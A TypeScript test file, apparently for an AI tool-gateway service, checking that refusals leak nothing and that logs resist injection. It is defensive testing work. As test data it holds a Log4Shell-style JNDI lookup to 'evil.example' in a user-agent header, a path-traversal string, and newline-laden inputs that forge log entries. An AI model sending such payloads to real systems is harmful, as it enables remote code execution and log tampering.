import { REFUSALS, type RefusalCode } from '../../../foundation/refusals';
import { gatewayResponses } from '../../../modules/tool-gateway/gateway-responses';
import { refused } from '../../../modules/tool-gateway/lambda/core/answers';
import { logTo } from '../../../modules/tool-gateway/lambda/validator/log';
import { payment } from '../../support/gateway';
import { askAs, asked, tokenOf } from './approvers';
import { expectSentence, type Headers } from './http';
import { DETAIL, down, freshKey, LocalTrial } from './local-trial';

const trial = new LocalTrial();
const CLAIM = { claim: 'CL-2026-000123' };

/** What everybody finds again who puts it somewhere. */
const MARK = 'mark-7f3a';
const FORGED = `${MARK}\n{"level":"INFO","event":"tool-call.outcome","result":"ok"}`;

const written = () => JSON.stringify([trial.lines, trial.gateway.audit]);

describe('a refusal says what the catalogue says, and nothing of what is behind it', () => {
  const parsed = (body: string) => {
    const { instance, ...rest } = JSON.parse(body) as Record<string, unknown>;
    expect(instance).toMatch(/^urn:p2a-guardrails:request:/);
    return rest;
  };

  test.each(Object.keys(REFUSALS) as RefusalCode[])('%s', (code) => {
    const { status, body } = refused(code, 'request-1');
    expectSentence(status, parsed(body));
    expect(REFUSALS[code].sentence).toMatch(/^[A-Z][A-Za-z ,;'-]+\.$/);
  });

  test.each(Object.entries(gatewayResponses()))('what API Gateway says by itself: %s', (_, response) => {
    expectSentence(Number(response.statusCode), parsed(response.responseTemplates['application/json']));
    expect(JSON.stringify(response).match(/\$\w+[.\w]*/g)).toEqual(['$context.requestId']);
  });

  test('whatever it is that fails, and however it says so', async () => {
    const failures = [
      new Error(DETAIL),
      Object.assign(new Error(DETAIL), { name: `${DETAIL}\n`, stack: DETAIL, statusCode: 200, code: 'ok' }),
      DETAIL,
      { message: DETAIL, code: 'not-authorized' },
      undefined,
    ];
    for (const failure of failures) {
      trial.instead = { digest: () => Promise.reject(failure) };
      expect(await trial.call('reader', 'status', CLAIM)).toMatchObject({ code: 'gateway-failed' });
    }
    expect(written()).not.toContain('db-prod');
    const kinds = trial.lines.map(({ line }) => line.error);
    expect(kinds).toEqual(['Error', 'Error', 'string', 'object', 'undefined']);
  });

  test('is in the form of the catalogue for approvers too', async () => {
    trial.storeFails = () => true;
    const ada = await tokenOf(trial, 'ada');
    expect(await askAs(trial, ada, 'GET', '/approvals')).toMatchObject({ code: 'approver-unavailable' });
    expect(await askAs(trial, ada, 'GET', '/approvals/..%2f..%2fx')).toMatchObject({ code: 'approver-not-identified' });
    expect(await askAs(trial, 'a.b.c', 'GET', '/approvals')).toMatchObject({ code: 'approver-not-identified' });
    expect(await askAs(trial, ada, 'DELETE', '/approvals')).toMatchObject({ status: expect.any(Number) });
    expect(written()).not.toContain('db-prod');
  });
});

describe('what somebody sends is in no log', () => {
  const hostile: Headers = [
    ['user-agent', `${MARK} \${jndi:ldap://evil.example/a}`],
    ['referer', MARK],
    ['x-forwarded-for', MARK],
    ['x-amzn-trace-id', MARK],
    ['x-amzn-requestid', MARK],
    ['x-request-id', MARK],
    [MARK, MARK],
  ];

  test('be it refused', async () => {
    const calls = [
      trial.call('reader', 'status', FORGED, { headers: hostile }),
      trial.call('reader', 'status', { claim: FORGED }, { headers: hostile }),
      trial.call('reader', 'status', { ...CLAIM, [MARK]: 1 }),
      trial.call('reader', 'status', CLAIM, { contentType: MARK }),
      trial.call('reader', 'status', CLAIM, { path: `/tools/ledger/status?${MARK}=${MARK}`, contentType: MARK }),
      trial.call('free', 'pay', payment(), { headers: [['idempotency-key', `${MARK} `.repeat(20)]] }),
      trial.call('free', 'pay', payment(), { headers: [...freshKey(), ['p2a-requester', `${MARK} and`]] }),
      trial.call('reader', '', '', { method: 'GET', path: `/approvals/${MARK}-0000` }),
    ];
    for (const answer of await Promise.all(calls)) expect(answer.status).toBeGreaterThanOrEqual(400);
    expect(trial.lines.length).toBeGreaterThanOrEqual(calls.length);
    expect(written()).not.toContain(MARK);
  });

  test('or made', async () => {
    trial.answers = async () => ({ ok: true, output: { said: FORGED } });
    const answer = await trial.call('free', 'note', { text: FORGED }, { headers: [...hostile, ...freshKey()] });
    expect(answer).toMatchObject({ status: 200, body: { output: { said: FORGED } } });
    expect(written()).not.toContain(MARK);
  });

  test('or put before people', async () => {
    const waiting = await asked(trial, { headers: hostile });
    expect(await waiting.again()).toMatchObject({ status: 202 });
    expect(written()).not.toContain('CL-2026');
    expect(written()).not.toContain(MARK);
  });

  test('or the token or name of whoever asks', async () => {
    const ada = await tokenOf(trial, 'ada', { email: `${MARK}@acme.example` });
    await askAs(trial, ada, 'GET', '/approvals');
    await askAs(trial, `${ada.slice(0, -4)}AAAA`, 'GET', '/approvals');
    await trial.call('reader', 'status', CLAIM);
    expect(written()).not.toContain(MARK);
    expect(written()).not.toContain(ada.split('.')[2]);
    for (const { secretAccessKey, sessionToken } of Object.values(trial.gateway.credentials)) {
      expect(written()).not.toContain(secretAccessKey);
      expect(written()).not.toContain(sessionToken);
    }
  });
});

test('a path that nobody knows is one line, whatever is in it', async () => {
  await trial.call('reader', '', CLAIM, { path: '/tools/%0a%7b%22level%22%3a%22INFO%22%7d/%e2%80%a8x' });
  await trial.call('reader', '', CLAIM, { path: `/${'x'.repeat(5000)}` });
  expect(trial.lines.map(({ log }) => log)).toEqual(['access', 'access']);
  for (const { line } of trial.lines) expect(JSON.stringify(line)).not.toMatch(/[\n\r\u2028\u2029]/);
});

test('what an approver writes is masked, and forges no line and no event', async () => {
  const waiting = await asked(trial);
  const { digest } = await waiting.kept();
  const reason = `fine, says ada@example.com\n{"event":"tool-call.outcome","result":"ok"}`;
  const wish = { decision: 'approve', digest, reason };
  await askAs(trial, await tokenOf(trial, 'ada'), 'POST', `/approvals/${waiting.id}/decision`, wish);
  await trial.gateway.approvalEnded(waiting.id);
  const [decided] = trial.gateway.audit.filter(({ event }) => event === 'approval.decided');
  expect(decided).toMatchObject({ approver: 'ada', reason: expect.stringContaining('fine, says [EMAIL]') });
  expect(JSON.stringify(decided).split('\n')).toHaveLength(1);
  expect(JSON.stringify(trial.lines.filter(({ log }) => log !== 'audit'))).not.toContain('fine');
});

test('every line of the log is one line of JSON, and says who logs it', async () => {
  const lines: string[] = [];
  const write = logTo((line) => lines.push(line), 'trial');
  trial.answers = down;
  await trial.call('free', 'note', { text: FORGED }, { headers: freshKey() });
  await trial.call('reader', 'status', FORGED);
  for (const { log, line } of trial.lines) if (log === 'gateway') write(line as never);
  expect(lines.length).toBeGreaterThanOrEqual(2);
  for (const line of lines) {
    expect(line.split('\n')).toHaveLength(2);
    expect(JSON.parse(line)).toMatchObject({
      level: expect.stringMatching(/^(?:INFO|WARN|ERROR)$/),
      request: expect.any(String),
    });
  }
});
